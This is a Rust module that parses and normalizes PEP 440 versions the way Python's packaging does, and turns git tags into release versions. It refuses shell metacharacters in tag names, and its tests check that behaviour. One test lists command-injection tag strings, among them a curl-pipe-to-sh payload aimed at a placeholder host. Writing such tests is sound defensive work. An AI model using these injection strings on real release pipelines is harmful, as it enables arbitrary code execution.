//! PEP 440 versions: parsing and normalization exactly as Python's `packaging` does
//! it, and the rules that turn a git tag into a release version.
//!
//! Pure functions only; the differential test in `tests/it/version_diff.rs` checks
//! them against the pinned `packaging` itself.

use std::{fmt, sync::LazyLock};

use anyhow::{Result, bail};
use regex_lite::Regex;

/// A parsed, normalized PEP 440 version.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Version {
    normalized: String,
    has_local: bool,
}

impl Version {
    /// The normalized form, as `str(packaging.version.Version(s))` prints it.
    pub fn as_str(&self) -> &str {
        &self.normalized
    }
}

impl fmt::Display for Version {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.normalized)
    }
}

/// `packaging.version.VERSION_PATTERN`, anchored the way `Version()` anchors it
/// (`fullmatch` with optional surrounding whitespace), case-insensitive.
///
/// packaging ≥ 26 writes some quantifiers as possessive on new Pythons; they never
/// change which strings match this particular pattern, and the differential test
/// holds us to that.
static VERSION_RE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(
        r"(?xi)
        ^[\ \t\n\r\x0b\x0c\x1c-\x1f]*
        v?
        (?:
            (?:(?P<epoch>[0-9]+)!)?
            (?P<release>[0-9]+(?:\.[0-9]+)*)
            (?P<pre>
                [._-]?
                (?P<pre_l>alpha|a|beta|b|preview|pre|c|rc)
                [._-]?
                (?P<pre_n>[0-9]+)?
            )?
            (?P<post>
                (?:-(?P<post_n1>[0-9]+))
                |
                (?:
                    [._-]?
                    (?P<post_l>post|rev|r)
                    [._-]?
                    (?P<post_n2>[0-9]+)?
                )
            )?
            (?P<dev>
                [._-]?
                (?P<dev_l>dev)
                [._-]?
                (?P<dev_n>[0-9]+)?
            )?
        )
        (?:\+(?P<local>[a-z0-9]+(?:[._-][a-z0-9]+)*))?
        [\ \t\n\r\x0b\x0c\x1c-\x1f]*$",
    )
    .unwrap()
});

/// Parses `s` as `packaging.version.Version(s)` would and returns its normalized form.
///
/// Only ASCII input is considered: `packaging` also accepts some Unicode whitespace
/// around a version, which no tag or version file of ours can carry.
pub fn parse(s: &str) -> Result<Version> {
    let invalid = || anyhow::format_err!("{s:?} is not a valid PEP 440 version");
    if !s.is_ascii() {
        return Err(invalid());
    }
    let caps = VERSION_RE.captures(s).ok_or_else(invalid)?;
    let group = |name: &str| caps.name(name).map(|m| m.as_str());

    let mut out = String::new();
    if let Some(epoch) = group("epoch") {
        let epoch = strip_zeros(epoch);
        if epoch != "0" {
            out.push_str(epoch);
            out.push('!');
        }
    }
    let release = group("release").unwrap_or_default();
    let release: Vec<&str> = release.split('.').map(strip_zeros).collect();
    out.push_str(&release.join("."));

    if let Some(letter) = group("pre_l") {
        let letter = match letter.to_ascii_lowercase().as_str() {
            "alpha" | "a" => "a",
            "beta" | "b" => "b",
            _ => "rc", // c, pre, preview, rc
        };
        out.push_str(letter);
        out.push_str(group("pre_n").map_or("0", strip_zeros));
    }
    if group("post").is_some() {
        out.push_str(".post");
        out.push_str(group("post_n1").or(group("post_n2")).map_or("0", strip_zeros));
    }
    if group("dev").is_some() {
        out.push_str(".dev");
        out.push_str(group("dev_n").map_or("0", strip_zeros));
    }
    let has_local = match group("local") {
        Some(local) => {
            out.push('+');
            let parts: Vec<String> = local
                .split(['.', '_', '-'])
                .map(|part| {
                    if part.bytes().all(|b| b.is_ascii_digit()) {
                        strip_zeros(part).to_owned()
                    } else {
                        part.to_ascii_lowercase()
                    }
                })
                .collect();
            out.push_str(&parts.join("."));
            true
        }
        None => false,
    };
    Ok(Version { normalized: out, has_local })
}

/// Python's `str(int(digits))` for a string of ASCII digits, without a size limit.
fn strip_zeros(digits: &str) -> &str {
    let trimmed = digits.trim_start_matches('0');
    if trimmed.is_empty() { "0" } else { trimmed }
}

/// Characters a release tag may contain: everything a PEP 440 version can be spelled
/// with. Anything else (`$`, backticks, `;`, `|`, quotes, spaces …) is refused before
/// the tag is used anywhere, so a crafted tag name can never reach a shell.
fn is_tag_char(c: char) -> bool {
    c.is_ascii_alphanumeric() || matches!(c, '.' | '!' | '+' | '-' | '_')
}

/// The spelling of a tag that names `version` exactly: `v` and the normalized
/// version. Two different tags that normalize to one version (`v1.0.0rc1`,
/// `v1.0.0-rc.1`) could publish that version from two commits; only one of them
/// is canonical.
pub fn canonical_tag(version: &Version) -> String {
    format!("v{version}")
}

/// Whether `tag` is the canonical spelling of its version (with or without the `v`).
pub fn is_canonical(tag: &str, version: &Version) -> bool {
    tag.strip_prefix('v').unwrap_or(tag) == version.as_str()
}

/// Where a release version came from, for messages.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Source {
    /// The TAG argument.
    Argument,
    /// `GITHUB_REF_NAME` of a tag push.
    GithubRef,
    /// The version file (manual dispatch: release what is there).
    VersionFile,
}

impl fmt::Display for Source {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(match self {
            Source::Argument => "the TAG argument",
            Source::GithubRef => "GITHUB_REF_NAME",
            Source::VersionFile => "the version file",
        })
    }
}

/// Turns a tag (`v1.0.0`, `V2.0rc1`, `1.0.post1` …) into the version to release.
///
/// The leading `v`/`V` is optional, as in PEP 440. Local versions (`+…`) are refused
/// because package indexes, CodeArtifact included, refuse them.
pub fn parse_tag(tag: &str, source: Source) -> Result<Version> {
    if tag.is_empty() {
        bail!("{source} is empty: give a version tag such as v1.0.0");
    }
    if let Some(bad) = tag.chars().find(|&c| !is_tag_char(c)) {
        bail!(
            "refusing tag {tag:?} from {source}: it contains {bad:?}, which no version can \
             contain (a version uses only letters, digits and . ! + - _); nothing was run. \
             Tag the release with a PEP 440 version such as v1.0.0"
        );
    }
    let version = parse(tag).map_err(|_| {
        anyhow::format_err!(
            "tag {tag:?} from {source} is not a PEP 440 version: use a tag such as v1.0.0, \
             v1.0.0rc1 or v1.0.0.post1 (see https://peps.python.org/pep-0440/)"
        )
    })?;
    if version.has_local {
        bail!(
            "tag {tag:?} from {source} is a local version ({version}): package indexes refuse \
             local versions, so release it without the \"+…\" part"
        );
    }
    Ok(version)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn normalizes_like_packaging() {
        let cases = [
            ("1.0.0", "1.0.0"),
            ("v1.0.0", "1.0.0"),
            ("V1.0.0", "1.0.0"),
            ("v1.0.0-rc.1", "1.0.0rc1"),
            ("v01.2", "1.2"),
            ("1.0-1", "1.0.post1"),
            ("1!2.0", "1!2.0"),
            ("0!2.0", "2.0"),
            ("007!1.0", "7!1.0"),
            ("1.0a", "1.0a0"),
            ("1.0alpha2", "1.0a2"),
            ("1.0-beta.3", "1.0b3"),
            ("1.0c1", "1.0rc1"),
            ("1.0pre1", "1.0rc1"),
            ("1.0preview_2", "1.0rc2"),
            ("1.0.RC1", "1.0rc1"),
            ("1.0-r", "1.0.post0"),
            ("1.0rev3", "1.0.post3"),
            ("1.0.post", "1.0.post0"),
            ("1.0-dev", "1.0.dev0"),
            ("1.0_DEV09", "1.0.dev9"),
            ("1.0a1.post2.dev3", "1.0a1.post2.dev3"),
            ("1.0+ABC.007_x-1", "1.0+abc.7.x.1"),
            ("  1.0\t", "1.0"),
            ("1.00000000000000000000000000000000000001", "1.1"),
        ];
        for (input, want) in cases {
            assert_eq!(parse(input).unwrap().as_str(), want, "input {input:?}");
        }
    }

    #[test]
    fn refuses_what_packaging_refuses() {
        for input in ["", "1.", ".1", "1..0", "v", "1.0+", "1.0+a..b", "1.0-", "a1.0", "1.0 a", "1,0", "1.0é", "vv1.0"]
        {
            assert!(parse(input).is_err(), "input {input:?} must be refused");
        }
    }

    #[test]
    fn tags_become_versions() {
        let ok = [("v1.0.0", "1.0.0"), ("1.2.3rc1", "1.2.3rc1"), ("v2!1.0", "2!1.0"), ("V1.0-1", "1.0.post1")];
        for (tag, want) in ok {
            assert_eq!(parse_tag(tag, Source::Argument).unwrap().as_str(), want);
        }
    }

    #[test]
    fn canonical_tags() {
        for (tag, canonical) in
            [("v1.0.0", true), ("1.0.0", true), ("v1.0.0rc1", true), ("v1.0.0-rc.1", false), ("V1.0.0", false)]
        {
            let version = parse_tag(tag, Source::Argument).unwrap();
            assert_eq!(is_canonical(tag, &version), canonical, "{tag}");
        }
        assert_eq!(canonical_tag(&parse("1.0.0-RC.1").unwrap()), "v1.0.0rc1");
    }

    #[test]
    fn hostile_tags_are_refused_with_safe_quoting() {
        let hostile = [
            ("v1$(id)", "'$'"),
            ("v1`id`", "'`'"),
            ("v1;id;#", "';'"),
            ("v1|id", "'|'"),
            ("v1&&id", "'&'"),
            ("v1\"$(curl${IFS}-sL${IFS}x.example|sh)\"", "'\"'"),
            ("v1\nid", "'\\n'"),
            ("v1\x1b[31m", "'\\u{1b}'"),
            ("v1 id", "' '"),
        ];
        for (tag, bad) in hostile {
            let err = parse_tag(tag, Source::GithubRef).unwrap_err().to_string();
            assert!(err.contains(&format!("{tag:?}")), "{err}");
            assert!(err.contains(bad), "{err} should name {bad}");
            assert!(!err.contains('\n') && !err.contains('\x1b'), "{err:?} must be printable on one line");
        }
    }

    #[test]
    fn local_and_invalid_tags_are_refused() {
        let err = parse_tag("v1.0+local", Source::Argument).unwrap_err().to_string();
        assert!(err.contains("local version"), "{err}");
        let err = parse_tag("release-1", Source::Argument).unwrap_err().to_string();
        assert!(err.contains("not a PEP 440 version"), "{err}");
        let err = parse_tag("", Source::Argument).unwrap_err().to_string();
        assert!(err.contains("empty"), "{err}");
    }
}
